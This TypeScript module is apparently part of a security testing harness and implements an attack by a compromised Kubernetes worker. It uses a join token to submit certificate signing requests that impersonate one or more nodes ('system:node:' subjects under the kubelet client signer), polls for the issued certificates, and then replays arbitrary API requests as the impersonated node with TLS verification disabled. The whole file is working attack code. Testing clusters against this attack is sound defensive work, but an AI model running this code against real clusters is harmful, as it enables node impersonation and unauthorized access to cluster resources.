/**
 * What a compromised worker tries at the API server with what it was given: a join token, then a node's certificate.
 */
import { execFileSync } from "node:child_process";
import { generateKeyPairSync } from "node:crypto";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { request } from "node:https";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Act } from "../act.ts";
import { pause } from "../pace.ts";
import type { Party, Target } from "../wire/tls.ts";

export interface KubeArgs {
  readonly target: Target;
  readonly token: string;
  /** The nodes whose certificates it requests: the first, then the others at once. */
  readonly names: readonly string[];
  /** The time limit for each, in seconds. */
  readonly patience: number;
  /** Sent with the first node's certificate, or with the token if there is none. */
  readonly requests?: readonly { readonly method: string; readonly path: string; readonly body?: unknown }[];
}

interface Answer {
  readonly status: number;
  readonly body: string;
}

type Login = { readonly token: string } | Party;

const CSRS = "/apis/certificates.k8s.io/v1/certificatesigningrequests";

export const kube: Act<KubeArgs> = async ({ target, token, names, patience, requests = [] }, { signal }) => {
  const [first = "", ...others] = names;
  const own = await askFor(first);
  const login: Login = own.party ?? { token };
  // The others at once: for a certificate that is not issued, it waits until the time limit.
  const more = await Promise.all(others.map((name) => askFor(name)));
  const asked = [own, ...more].map(({ name, status, party }) => ({ name, status, issued: party !== undefined }));
  const answers = [];
  for (const { method, path, body } of requests) {
    const { status, body: answer } = await ask(target, login, method, path, body);
    answers.push({ path, status, answer: answer.slice(0, 400) });
  }
  return { asked, answers };

  async function askFor(name: string): Promise<{ name: string; status: number; party?: Party }> {
    const { key, csr } = certificateRequest(name);
    const spec = {
      request: Buffer.from(csr).toString("base64"),
      signerName: "kubernetes.io/kube-apiserver-client-kubelet",
    };
    const body = {
      apiVersion: "certificates.k8s.io/v1",
      kind: "CertificateSigningRequest",
      metadata: { generateName: "attack-" },
      spec: { ...spec, usages: ["digital signature", "client auth"] },
    };
    const made = await ask(target, { token }, "POST", CSRS, body);
    if (made.status !== 201) return { name, status: made.status };
    const path = `${CSRS}/${JSON.parse(made.body).metadata.name}`;
    const end = performance.now() + patience * 1000;
    while (performance.now() < end && !signal.aborted) {
      const { status, body: found } = await ask(target, { token }, "GET", path);
      const certificate = status === 200 ? JSON.parse(found).status?.certificate : undefined;
      if (certificate)
        return { name, status: 201, party: { key, cert: Buffer.from(certificate, "base64").toString() } };
      await pause(200, signal);
    }
    return { name, status: 201 };
  }
};

function certificateRequest(name: string): { key: string; csr: string } {
  const { privateKey } = generateKeyPairSync("ec", { namedCurve: "P-256" });
  const key = privateKey.export({ type: "pkcs8", format: "pem" }) as string;
  const folder = mkdtempSync(join(tmpdir(), "attack-"));
  try {
    writeFileSync(join(folder, "key"), key, { mode: 0o600 });
    const subject = `/O=system:nodes/CN=system:node:${name}`;
    const csr = execFileSync("openssl", ["req", "-new", "-key", join(folder, "key"), "-subj", subject], {
      encoding: "utf8",
      stdio: ["ignore", "pipe", "ignore"],
    });
    return { key, csr };
  } finally {
    rmSync(folder, { recursive: true });
  }
}

function ask(target: Target, login: Login, method: string, path: string, body?: unknown): Promise<Answer> {
  return new Promise((resolve) => {
    const bearer = "token" in login ? { authorization: `Bearer ${login.token}` } : {};
    const own = "key" in login ? { key: login.key, cert: login.cert } : {};
    const type = method === "PATCH" ? "application/strategic-merge-patch+json" : "application/json";
    const headers = { "content-type": type, ...bearer };
    const options = {
      ...target,
      method,
      path,
      headers,
      ...own,
      rejectUnauthorized: false,
      agent: false,
      timeout: 5_000,
    };
    const outgoing = request(options, (response) => {
      let text = "";
      response.setEncoding("utf8").on("data", (chunk) => {
        text += chunk;
      });
      response.once("end", () => resolve({ status: response.statusCode ?? 0, body: text }));
    });
    outgoing.once("timeout", () => outgoing.destroy(new Error("late")));
    outgoing.once("error", (error) => resolve({ status: 0, body: error.message }));
    outgoing.end(body === undefined ? undefined : JSON.stringify(body));
  });
}
